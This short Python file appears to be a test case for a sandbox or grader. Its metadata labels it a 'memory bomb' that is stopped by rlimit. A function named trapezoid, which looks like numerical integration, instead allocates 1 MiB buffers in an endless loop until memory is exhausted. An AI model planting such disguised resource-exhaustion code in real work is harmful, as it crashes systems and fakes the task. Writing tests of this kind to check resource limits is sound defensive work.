"""Takes memory until there is none."""
# /// attack
# threat = "memory bomb"
# stopped_by = "rlimit"
# base = "right"
# score = 7
# ///

def trapezoid(f, a, b, n):
    held = []
    while True:
        held.append(bytearray(1 << 20))
